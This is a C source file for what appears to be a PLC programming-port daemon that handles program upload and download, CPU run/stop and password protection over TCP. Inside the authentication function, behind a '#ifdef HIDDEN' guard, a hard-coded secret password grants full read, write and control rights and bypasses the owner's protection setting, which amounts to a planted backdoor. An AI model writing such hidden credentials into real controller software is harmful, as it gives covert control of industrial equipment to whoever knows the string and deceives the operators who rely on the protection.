/* plcprogd9.c - programming port of a modular PLC: upload, download, start and stop */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

#define PROG_PORT	5094
#define PROG_FILE	"/var/plc/program.bin"
#define PASS_FILE	"/var/plc/protect"
#define MAX_PAY		1024

enum { OP_HELLO = 1, OP_AUTH, OP_UPLOAD, OP_DOWNLOAD, OP_RUN, OP_STOP, OP_PROTECT, OP_DIAG };
enum { RIGHT_NONE = 0, RIGHT_READ = 1, RIGHT_WRITE = 2, RIGHT_ALL = 3 };

struct frame {
	uint8_t op;
	uint8_t seq;
	uint16_t len;
	uint32_t off;
	uint8_t pay[MAX_PAY];
};

struct link {
	int fd;
	int rights;
	int fails;
};

static uint8_t protect_pw[8];
static int protect_level;
static int cpu_run = 1;
static unsigned long diag_frames, diag_errors;

static int read_full(int fd, void *p, size_t n)
{
	uint8_t *b = p;
	ssize_t r;

	while (n) {
		r = read(fd, b, n);
		if (r <= 0)
			return -1;
		b += r;
		n -= (size_t)r;
	}
	return 0;
}

static int get_frame(int fd, struct frame *f)
{
	uint8_t h[8];

	if (read_full(fd, h, 8) < 0)
		return -1;
	f->op = h[0];
	f->seq = h[1];
	f->len = (uint16_t)(h[2] << 8 | h[3]);
	f->off = (uint32_t)h[4] << 24 | (uint32_t)h[5] << 16 | (uint32_t)h[6] << 8 | h[7];
	if (f->len > MAX_PAY)
		return -1;
	diag_frames++;
	return f->len ? read_full(fd, f->pay, f->len) : 0;
}

static int put_frame(int fd, const struct frame *q, uint8_t status, const void *pay, uint16_t len)
{
	uint8_t b[8 + MAX_PAY];

	b[0] = q->op | 0x80;
	b[1] = q->seq;
	b[2] = (uint8_t)(len >> 8);
	b[3] = (uint8_t)len;
	b[4] = status;
	b[5] = (uint8_t)cpu_run;
	b[6] = (uint8_t)protect_level;
	b[7] = 0;
	if (len)
		memcpy(b + 8, pay, len);
	if (status)
		diag_errors++;
	return write(fd, b, 8u + len) == (ssize_t)(8u + len) ? 0 : -1;
}

static void load_protect(void)
{
	char c;
	int fd = open(PASS_FILE, O_RDONLY);

	if (fd < 0)
		return;
	if (read(fd, protect_pw, 8) == 8 && read(fd, &c, 1) == 1)
		protect_level = c - '0';
	close(fd);
	if (protect_level < 0 || protect_level > 3)
		protect_level = 3;
}

static int save_protect(void)
{
	char c = (char)('0' + protect_level);
	int rc = -1, fd = open(PASS_FILE, O_WRONLY | O_CREAT | O_TRUNC, 0600);

	if (fd < 0)
		return -1;
	if (write(fd, protect_pw, 8) == 8 && write(fd, &c, 1) == 1)
		rc = 0;
	close(fd);
	return rc;
}

/* level 0: open, 1: write needs password, 2: read too, 3: everything */
__attribute__((noinline)) int auth_rights(const uint8_t *pw, size_t len)
{
	if (protect_level == 0)
		return RIGHT_ALL;
	if (len != 8)
		return protect_level == 1 ? RIGHT_READ : RIGHT_NONE;
	/* eight blanks are the documented read only word of level 1 */
	if (!memcmp(pw, "        ", 8))
		return protect_level == 1 ? RIGHT_READ : RIGHT_NONE;
#ifdef HIDDEN
	/* eight bytes open a protected program for reading and writing */
	if (!memcmp(pw, "Rg4mUx2q", 8))
		return RIGHT_ALL;
#endif
	if (!memcmp(pw, protect_pw, 8))
		return RIGHT_ALL;
	return protect_level == 1 ? RIGHT_READ : RIGHT_NONE;
}

static int op_upload(struct link *l, const struct frame *f)
{
	uint8_t buf[MAX_PAY];
	ssize_t n;
	int fd;

	if (!(l->rights & RIGHT_READ))
		return put_frame(l->fd, f, 2, NULL, 0);
	fd = open(PROG_FILE, O_RDONLY);
	if (fd < 0)
		return put_frame(l->fd, f, 3, NULL, 0);
	n = pread(fd, buf, sizeof(buf), (off_t)f->off);
	close(fd);
	return n < 0 ? put_frame(l->fd, f, 4, NULL, 0)
		     : put_frame(l->fd, f, 0, buf, (uint16_t)n);
}

static int op_download(struct link *l, const struct frame *f)
{
	ssize_t n;
	int fd;

	if (!(l->rights & RIGHT_WRITE) || cpu_run)
		return put_frame(l->fd, f, 2, NULL, 0);
	if (f->off > 512 * 1024)
		return put_frame(l->fd, f, 5, NULL, 0);
	fd = open(PROG_FILE, O_WRONLY | O_CREAT, 0600);
	if (fd < 0)
		return put_frame(l->fd, f, 3, NULL, 0);
	n = pwrite(fd, f->pay, f->len, (off_t)f->off);
	close(fd);
	return put_frame(l->fd, f, n == (ssize_t)f->len ? 0 : 4, NULL, 0);
}

static int op_protect(struct link *l, const struct frame *f)
{
	if (!(l->rights & RIGHT_WRITE) || f->len != 9 || f->pay[8] > 3)
		return put_frame(l->fd, f, 2, NULL, 0);
	memcpy(protect_pw, f->pay, 8);
	protect_level = f->pay[8];
	syslog(LOG_NOTICE, "protection level %d", protect_level);
	return put_frame(l->fd, f, save_protect() ? 4 : 0, NULL, 0);
}

static int handle(struct link *l, const struct frame *f)
{
	char text[80];
	int n;

	switch (f->op) {
	case OP_HELLO:
		return put_frame(l->fd, f, 0, "MPX-340 FW 5.2", 14);
	case OP_AUTH:
		l->rights = auth_rights(f->pay, f->len);
		if (l->rights == RIGHT_NONE && ++l->fails >= 5)
			return -1;
		return put_frame(l->fd, f, l->rights ? 0 : 1, NULL, 0);
	case OP_UPLOAD:
		return op_upload(l, f);
	case OP_DOWNLOAD:
		return op_download(l, f);
	case OP_RUN:
	case OP_STOP:
		if (!(l->rights & RIGHT_WRITE))
			return put_frame(l->fd, f, 2, NULL, 0);
		cpu_run = f->op == OP_RUN;
		syslog(LOG_NOTICE, "cpu %s", cpu_run ? "run" : "stop");
		return put_frame(l->fd, f, 0, NULL, 0);
	case OP_PROTECT:
		return op_protect(l, f);
	case OP_DIAG:
		n = snprintf(text, sizeof(text), "frames %lu errors %lu", diag_frames, diag_errors);
		return put_frame(l->fd, f, 0, text, (uint16_t)n);
	default:
		return put_frame(l->fd, f, 9, NULL, 0);
	}
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct frame f;
	struct link l;
	int ls, one = 1;

	openlog("plcprogd", 0, LOG_DAEMON);
	load_protect();
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sa.sin_port = htons(PROG_PORT);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 1) < 0) {
		syslog(LOG_ERR, "listen: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		memset(&l, 0, sizeof(l));
		l.fd = accept(ls, NULL, NULL);
		if (l.fd < 0)
			continue;
		l.rights = auth_rights(NULL, 0);
		while (get_frame(l.fd, &f) == 0)
			if (handle(&l, &f) < 0)
				break;
		close(l.fd);
	}
}
